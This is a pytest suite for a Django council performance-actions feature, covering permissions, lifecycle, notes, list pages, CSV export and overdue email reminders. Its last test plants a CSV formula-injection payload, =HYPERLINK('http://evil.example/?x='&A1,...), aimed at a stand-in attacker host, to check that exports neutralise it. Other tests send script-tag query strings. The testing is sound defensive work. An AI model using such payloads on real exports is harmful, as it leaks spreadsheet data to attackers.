"""Performance actions: who writes them, the lifecycle, notes and history, the list page, weekly reminders."""

from __future__ import annotations

import datetime

import pytest
from django.core import mail
from django.core.exceptions import PermissionDenied, ValidationError
from django.db import IntegrityError, connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from indicators.action_models import ActionStatus, PerformanceAction, PerformanceActionReminder
from indicators.actions import services
from indicators.actions.reminders import send_overdue_reminders
from indicators.actions.selectors import scorecard_actions
from indicators.quarters import Quarter
from perfsite.lifecycle import InvalidTransition
from tests.indicators.conftest import make_indicator

MONDAY = datetime.date(2017, 7, 3)


@pytest.fixture
def indicator(db):
    return make_indicator("CASCYP 31", owner="Children's Social Care")


def new_action(indicator, user, *, owner=None, service="First Contact Service", due=datetime.date(2017, 6, 30)):
    return services.action_create(
        indicator=indicator, quarter="2016-17-q4", description="Pilot the joint referral procedure",
        owner=owner, owner_service=service, due_on=due, user=user,
    )  # fmt: skip


def test_an_officer_creates_an_action_with_its_history(indicator, officer):
    action = new_action(indicator, officer)
    assert action.status == ActionStatus.PLANNED
    assert action.history.get().history_user == officer


@pytest.mark.parametrize("role", ["auditor", "moderator", "manager", "member", "outsider"])
def test_only_officers_create(indicator, request, role):
    with pytest.raises(PermissionDenied):
        new_action(indicator, request.getfixturevalue(role))
    assert not PerformanceAction.objects.exists()


@pytest.mark.parametrize(
    ("fields", "field"),
    [
        ({"description": "  "}, "description"),
        ({"owner": None, "owner_service": ""}, "owner_service"),
        ({"quarter": "2016-q9"}, "quarter"),
    ],
)
def test_bad_input_names_the_field_and_saves_nothing(indicator, officer, fields, field):
    data = {
        "indicator": indicator, "quarter": "2016-17-q4", "description": "x", "owner": None,
        "owner_service": "Service", "due_on": datetime.date(2017, 6, 30), "user": officer,
    }  # fmt: skip
    data.update(fields)
    with pytest.raises(ValidationError) as caught:
        services.action_create(**data)
    assert field in caught.value.message_dict
    assert not PerformanceAction.objects.exists()


@pytest.mark.parametrize(
    ("moves", "status"),
    [
        (["start"], ActionStatus.IN_PROGRESS),
        (["complete"], ActionStatus.DONE),
        (["start", "complete"], ActionStatus.DONE),
        (["start", "drop"], ActionStatus.DROPPED),
        (["complete", "reopen"], ActionStatus.IN_PROGRESS),
    ],
)
def test_the_lifecycle(indicator, officer, moves, status):
    action = new_action(indicator, officer)
    for move in moves:
        action = services.action_move(action=action, transition=move, user=officer, reason="Overtaken by events")
    assert action.status == status
    assert action.dropped_reason == ("Overtaken by events" if status == ActionStatus.DROPPED else "")


@pytest.mark.parametrize(("moves", "refused"), [([], "reopen"), (["complete"], "start"), (["complete"], "drop")])
def test_transitions_not_allowed_are_refused(indicator, officer, moves, refused):
    action = new_action(indicator, officer)
    for move in moves:
        action = services.action_move(action=action, transition=move, user=officer)
    with pytest.raises(InvalidTransition):
        services.action_move(action=action, transition=refused, user=officer, reason="x")


def test_dropping_needs_a_reason_and_the_database_insists(indicator, officer):
    action = new_action(indicator, officer)
    with pytest.raises(ValidationError, match="why"):
        services.action_move(action=action, transition="drop", user=officer, reason=" ")
    action.refresh_from_db()
    assert action.status == ActionStatus.PLANNED
    with pytest.raises(IntegrityError):
        PerformanceAction.objects.filter(pk=action.pk).update(status=ActionStatus.DROPPED)


def test_the_owner_moves_the_action_and_writes_notes_but_does_not_edit_it(indicator, officer, manager, auditor):
    action = new_action(indicator, officer, owner=manager)
    services.action_move(action=action, transition="start", user=manager)
    note = services.note_add(action=action, text="Pilot started", written_on=datetime.date(2017, 4, 20), user=manager)
    assert note.author == manager
    with pytest.raises(PermissionDenied):
        services.action_update(
            action=action, description="x", owner=None, owner_service="S", due_on=action.due_on, user=manager
        )
    with pytest.raises(PermissionDenied):
        services.note_add(action=action, text="Not mine", written_on=datetime.date(2017, 4, 21), user=auditor)


def test_the_action_page_for_officers_and_owners_only(client, indicator, officer, manager, auditor, member):
    action = new_action(indicator, officer, owner=manager)
    url = reverse("indicators:action_detail", args=[action.pk])
    for user, status in ((officer, 200), (manager, 200), (auditor, 403), (member, 403)):
        client.force_login(user)
        assert client.get(url).status_code == status
    client.force_login(manager)
    response = client.post(
        reverse("indicators:action_note_add", args=[action.pk]),
        {"text": "Pilot evaluated", "written_on_day": "15", "written_on_month": "6", "written_on_year": "2017"},
    )
    assert response.status_code == 302
    page = client.get(url).text
    assert "Pilot evaluated" in page and "15 June 2017" in page
    response = client.post(reverse("indicators:action_move", args=[action.pk]), {"transition": "drop", "reason": ""})
    assert response.status_code == 400 and "Enter why the action is being dropped" in response.text
    response = client.post(reverse("indicators:action_move", args=[action.pk]), {"transition": "nonsense"})
    assert response.status_code == 400
    action.refresh_from_db()
    assert action.status == ActionStatus.PLANNED


def test_an_officer_adds_an_action_through_the_form(client, indicator, officer):
    client.force_login(officer)
    url = reverse("indicators:action_new") + f"?indicator={indicator.pk}&quarter=2016-17-q4"
    assert client.get(url).status_code == 200
    data = {"indicator": indicator.pk, "quarter": "2016-17-q4", "description": "Recruit", "owner_service": "",
            "owner": "", "due_on_day": "30", "due_on_month": "6", "due_on_year": "2017"}  # fmt: skip
    response = client.post(url, data)
    assert response.status_code == 200 and "Name the owning service" in response.text
    data["owner_service"] = "Workforce Development"
    assert client.post(url, data).status_code == 302
    assert PerformanceAction.objects.get().owner_service == "Workforce Development"


def _queries(client, url):
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url)
    assert response.status_code == 200
    return len(captured)


@pytest.mark.parametrize("suffix", ["", "?status=planned", "?_export=csv", "?_export=xlsx", "?overdue=true"])
def test_the_list_pages_queries_do_not_grow_with_the_actions(client, indicator, officer, manager, suffix):
    client.force_login(officer)
    url = reverse("indicators:action_list") + suffix
    action = new_action(indicator, officer, owner=manager)
    services.note_add(action=action, text="n", written_on=datetime.date(2017, 5, 1), user=officer)
    small = _queries(client, url)
    for i in range(25):
        other = make_indicator(f"X {i}")
        action = new_action(other, officer, owner=manager if i % 2 else None)
        services.note_add(action=action, text="n", written_on=datetime.date(2017, 5, 1), user=officer)
    assert _queries(client, url) == small


def test_the_list_shows_status_owner_due_and_exports(client, indicator, officer, manager):
    new_action(indicator, officer, owner=manager, due=datetime.date(2017, 1, 31))
    client.force_login(officer)
    page = client.get(reverse("indicators:action_list")).text
    assert "Overdue" in page and "First Contact Service" in page and "31 Jan 2017" in page
    csv = client.get(reverse("indicators:action_list") + "?_export=csv").content.decode()
    assert "Pilot the joint referral procedure" in csv and "(overdue)" in csv


def test_overdue_owners_are_reminded_once_per_action_per_week(indicator, officer, manager):
    manager.email = "manager@example.org"
    manager.save()
    overdue = new_action(indicator, officer, owner=manager, due=datetime.date(2017, 6, 30))
    new_action(indicator, officer, owner=manager, due=datetime.date(2017, 8, 1))  # not due yet
    new_action(indicator, officer, owner=None, due=datetime.date(2017, 6, 1))  # a service only: nobody to email
    done = new_action(indicator, officer, owner=manager, due=datetime.date(2017, 6, 1))
    services.action_move(action=done, transition="complete", user=officer)
    sent = send_overdue_reminders(today=MONDAY)
    assert [r.action for r in sent] == [overdue]
    assert len(mail.outbox) == 1 and manager.email in mail.outbox[0].to
    assert "CASCYP 31" in mail.outbox[0].subject
    assert send_overdue_reminders(today=MONDAY + datetime.timedelta(days=2)) == []
    assert len(mail.outbox) == 1
    assert len(send_overdue_reminders(today=MONDAY + datetime.timedelta(days=7))) == 1
    assert PerformanceActionReminder.objects.filter(action=overdue).count() == 2


def test_the_beat_task_is_scheduled():
    from django.conf import settings

    tasks = {entry["task"] for entry in settings.CELERY_BEAT_SCHEDULE.values()}
    assert "indicators.tasks.send_overdue_performance_action_reminders" in tasks


def test_members_see_the_service_never_the_owner(indicator, officer, manager):
    manager.first_name, manager.last_name = "Mina", "Moss"
    manager.save()
    new_action(indicator, officer, owner=manager, service="")
    new_action(indicator, officer, owner=manager, service="First Contact Service", due=datetime.date(2017, 1, 1))
    finished = new_action(indicator, officer)
    services.action_move(action=finished, transition="complete", user=officer)
    lines = scorecard_actions(quarter=Quarter.parse("2016-17-q4"), today=datetime.date(2017, 3, 1))
    assert [(line.owner, line.overdue) for line in lines] == [
        ("First Contact Service", True),
        ("Children's Social Care", False),  # no service named: the indicator's owning service
    ]
    assert all("Moss" not in repr(line) for line in lines)


@pytest.mark.parametrize(
    "query",
    ["?status=%3Cscript%3E", "?owner=99999", "?owner=abc", "?overdue=maybe", "?sort=nonsense", "?page=999",
     "?quarter=" + "x" * 500, "?_export=pdf"],
)  # fmt: skip
def test_hostile_list_queries_never_500(client, indicator, officer, query):
    new_action(indicator, officer)
    client.force_login(officer)
    assert client.get(reverse("indicators:action_list") + query).status_code in (200, 404)


@pytest.mark.parametrize("query", ["?indicator=abc", "?indicator=99999", "?quarter=" + "x" * 300])
def test_hostile_new_action_queries_never_500(client, officer, query):
    client.force_login(officer)
    assert client.get(reverse("indicators:action_new") + query).status_code == 200


def test_a_bad_date_on_a_note_is_named_and_nothing_saved(client, indicator, officer):
    action = new_action(indicator, officer)
    client.force_login(officer)
    response = client.post(
        reverse("indicators:action_note_add", args=[action.pk]),
        {"text": "x", "written_on_day": "31", "written_on_month": "2", "written_on_year": "2017"},
    )
    assert response.status_code == 400 and "date" in response.content.decode().lower()
    assert not action.notes.exists()


def test_the_actions_export_neutralises_formulas(client, indicator, officer):
    new_action(indicator, officer, service='=HYPERLINK("http://evil.example/?x="&A1,"Click")')
    client.force_login(officer)
    csv = client.get(reverse("indicators:action_list") + "?_export=csv").content.decode()
    assert "'=HYPERLINK(" in csv
    assert ",=HYPERLINK(" not in csv and '"=HYPERLINK(' not in csv
